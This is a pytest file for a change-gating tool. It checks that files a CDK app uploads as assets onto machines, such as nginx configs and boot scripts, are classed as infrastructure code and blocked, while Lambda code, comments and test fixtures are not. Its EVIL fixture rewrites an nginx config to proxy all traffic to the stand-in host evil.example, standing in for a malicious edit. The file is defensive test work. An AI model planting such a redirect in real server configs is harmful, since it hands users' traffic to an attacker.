"""Red team 32, `--tree`: the files a CDK app uploads as assets onto the machines it creates.

`new Asset(this, 'nginx', { path: path.join(__dirname, 'assets', 'nginx.conf') })` in a CDK construct uploads
`assets/nginx.conf`, and the instance's user data installs it: an edit of it is an edit of the deployed machine. It was
`src` and `gate --tree` allowed it (the thirty-ninth set's StuckedJp/MastodonCloudFormation miss; every ASSETS row
was src on dd4a159). Now a file a CDK program below a `cdk.json` names in an asset or a read at synth time
(`Asset` `path`, `InitFile.fromAsset`/`fromFileInline`, `InitSource.fromAsset`, `readFileSync`, Python's
`aws_s3_assets.Asset(path=...)` and `open(...)`) is `iac` (`iac.context.cdk-asset`).

Not raised: a Lambda function's code (`Code.fromAsset('lambda')`: the labelled sets call a handler application code,
`src`), a file named only in a comment, a program outside any CDK app, a CDK unit test's fixture."""

from __future__ import annotations

from pathlib import Path

import pytest
from gitrepo import two_commits
from incli import tree_classify, tree_gate
from tables import each_case

CDK_JSON = '{"app": "npx ts-node bin/app.ts"}\n'
TS_HEAD = ("import * as path from 'path';\nimport * as fs from 'fs';\n"
           "import { Asset } from 'aws-cdk-lib/aws-s3-assets';\n")
PY_HEAD = "import os\nfrom aws_cdk import aws_s3_assets as s3_assets, aws_ec2 as ec2\n"
CONF = "server { listen 80; }\n"
EVIL = "server { listen 80; location / { proxy_pass http://evil.example; } }\n"

# name: (program path, its text, the file the change edits)
ASSETS: dict[str, tuple[str, str, str]] = {
    "ts-asset-join": ("lib/app/app.construct.ts", TS_HEAD + "const a = new Asset(this, 'nginx-conf', {\n"
                      "  path: path.join(__dirname, 'assets', 'nginx.conf'),\n});\n", "lib/app/assets/nginx.conf"),
    "ts-asset-resolve-up": ("lib/app/app.construct.ts", TS_HEAD + "new Asset(this, 'unit', "
                            "{ path: path.resolve(__dirname, '../files/web.service') });\n", "lib/files/web.service"),
    "ts-asset-cwd": ("lib/app.ts", TS_HEAD + "new Asset(this, 'cfg', { path: './config/agent.json' });\n",
                     "config/agent.json"),
    "ts-initfile": ("lib/app/node.ts", TS_HEAD + "ec2.InitFile.fromAsset('/etc/app.conf', "
                    "path.join(__dirname, 'files/app.conf'));\n", "lib/app/files/app.conf"),
    "ts-fileinline": ("lib/node.ts", TS_HEAD + "ec2.InitFile.fromFileInline('/etc/motd', 'lib/files/motd.txt');\n",
                      "lib/files/motd.txt"),
    "ts-readfile": ("lib/node.ts", TS_HEAD + "const userData = fs.readFileSync(path.join(__dirname, "
                    "'userdata', 'boot.sh'), 'utf8');\n", "lib/userdata/boot.sh"),
    "py-asset": ("stacks/stack.py", PY_HEAD + "s3_assets.Asset(self, 'Conf', path=os.path.join(os.path.dirname("
                 "__file__), 'assets', 'agent.cfg'))\n", "stacks/assets/agent.cfg"),
    "py-open": ("stacks/stack.py", PY_HEAD + "with open('stacks/user_data/boot.sh') as f:\n    data = f.read()\n",
                "stacks/user_data/boot.sh"),
}
# name: (program path, its text, the file the change edits): named by no asset or read of a CDK app
LOOK_ALIKES: dict[str, tuple[str, str, str, bool]] = {
    "lambda-code": ("lib/fn.ts", TS_HEAD + "new lambda.Function(this, 'F', { code: lambda.Code.fromAsset("
                    "path.join(__dirname, 'lambda')) });\n", "lib/lambda/settings.json", True),
    "comment": ("lib/app.ts", TS_HEAD + "// new Asset(this, 'x', { path: 'lib/files/notes.txt' })\n",
                "lib/files/notes.txt", True),
    "no-cdk-app": ("lib/app.ts", TS_HEAD + "new Asset(this, 'x', { path: './config/agent.json' });\n",
                   "config/agent.json", False),
}


@each_case("case", sorted(ASSETS))
def test_a_file_a_cdk_app_uploads_is_iac(tmp_path: Path, case: str) -> None:
    program, text, target = ASSETS[case]
    repo, base, head = two_commits(tmp_path / "repo", {"cdk.json": CDK_JSON, program: text, target: CONF},
                                   {target: EVIL})
    found = tree_classify(repo.root, base, head)[target]
    assert (found["bucket"], found["rule"]) == ("iac", "iac.context.cdk-asset"), found
    code, decision = tree_gate(repo.root, base, head)
    assert code == 3, decision


@pytest.mark.parametrize("case", sorted(LOOK_ALIKES))
def test_a_look_alike_is_no_cdk_asset(tmp_path: Path, case: str) -> None:
    program, text, target, app = LOOK_ALIKES[case]
    files = {program: text, target: '{"a": 1}\n' if target.endswith(".json") else CONF}
    repo, base, head = two_commits(tmp_path / "repo", {**files, **({"cdk.json": CDK_JSON} if app else {})},
                                   {target: EVIL})
    assert tree_classify(repo.root, base, head)[target]["rule"] != "iac.context.cdk-asset"


def test_a_cdk_unit_tests_fixture_is_no_asset(tmp_path: Path) -> None:
    test = TS_HEAD + "const t = fs.readFileSync(path.join(__dirname, 'fixtures', 'expected.json'));\n"
    repo, base, head = two_commits(tmp_path / "repo", {"cdk.json": CDK_JSON, "test/app.test.ts": test,
                                                       "test/fixtures/expected.json": '{"a": 1}\n'},
                                   {"test/fixtures/expected.json": '{"a": 2}\n'})
    assert tree_classify(repo.root, base, head)["test/fixtures/expected.json"]["rule"] != "iac.context.cdk-asset"
